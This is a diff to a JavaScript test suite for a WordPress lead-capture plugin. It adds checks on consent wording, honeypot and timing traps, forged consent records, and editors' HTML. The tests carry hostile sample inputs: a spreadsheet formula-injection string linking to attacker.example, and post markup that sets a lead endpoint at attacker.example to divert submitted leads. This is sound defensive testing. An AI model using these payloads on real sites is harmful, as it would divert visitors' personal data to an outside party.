@@ -21,7 +21,8 @@ const FORMULA = "=HYPERLINK(\"http://attacker.example\",\"click\")";
 const direct = (overrides = {}) => ({
   version: 1,
   contact: { name: "Bot", email: "bot@example.com", phone: null, message: "" },
-  consent: { text: "I agree", language: "en", at: new Date().toISOString(), page: "http://x/", marketing: false, marketing_text: "" },
+  // The plugin's own English wording (the settings set only the Hebrew).
+  consent: { text: "I agree that this site keeps the details and figures I send, and contacts me about them.", language: "en", at: new Date().toISOString(), page: "http://x/", marketing: false, marketing_text: "" },
   scenario: { currency: "ILS", lifetime_profit: 45000 },
   results: { npv_gain: 1 },
   link: "http://x/",
@@ -77,6 +78,12 @@ export async function leads({ browser, site, wp, admin, editor, visit, screens }
     const attribution = JSON.parse(kept.attribution);
     assert(attribution.utm_source === "wp" && attribution.utm_medium === "email" && kept.variant === "W", kept.attribution);
     assert(kept.mail_status === "failed" && kept.mail_error.length > 0, `mail: ${kept.mail_status} ${kept.mail_error}`);
+  });
+
+  await check("WordPress leads: an Editor without unfiltered_html cannot put a container with its own lead endpoint in a post", () => {
+    const hostile = wp("post", { as: "edna", title: "A container", content: `<div data-customer-value data-lead-endpoint="https://attacker.example/c" data-lead-consent='anything' data-variant=x>Calculator</div>` });
+    assert(!/data-(customer-value|lead-|variant)/.test(hostile.content), hostile.content);
+    assert(hostile.content.includes("Calculator"), "the rest of the post is kept");
   });
 
   await check("WordPress leads: the Leads screen lists the lead with markup as text, says the email failed, and its page shows the figures, the consent record and a link to its scenario", async () => {
@@ -151,10 +158,14 @@ export async function leads({ browser, site, wp, admin, editor, visit, screens }
     const before = wp("leads").length;
     const trap = await post({ ...direct(), website: "http://spam.example" });
     const fast = await post(direct({ elapsed_ms: 400 }));
-    assert(trap.status === 202 && fast.status === 202, `${trap.status} ${fast.status}`);
+    // Answered as a kept lead is, so a bot learns nothing.
+    assert(trap.status === 201 && fast.status === 201, `${trap.status} ${fast.status}`);
     assert(wp("leads").length === before, "neither was kept");
     const bad = await post(direct({ contact: { name: "X", email: "not-an-address", phone: null, message: "" } }));
     assert(bad.status === 422 && (await bad.json()).error.includes("contact.email"), `a bad address: ${bad.status}`);
+    // A consent this site never showed is not a consent: refused, before the limit counts it.
+    const forged = await post(direct({ consent: { ...direct().consent, text: "I agree to anything" } }));
+    assert(forged.status === 422 && (await forged.json()).error.includes("consent.text"), `a forged consent: ${forged.status}`);
     const huge = await fetch(`${site}${ROUTE}`, { method: "POST", headers: { "content-type": "application/json" }, body: `{"version":1,"x":"${"a".repeat(70000)}"}` });
     assert(huge.status === 413, `a huge lead: ${huge.status}`);
     // The visitor's lead and the refused one above counted; five an hour are allowed.
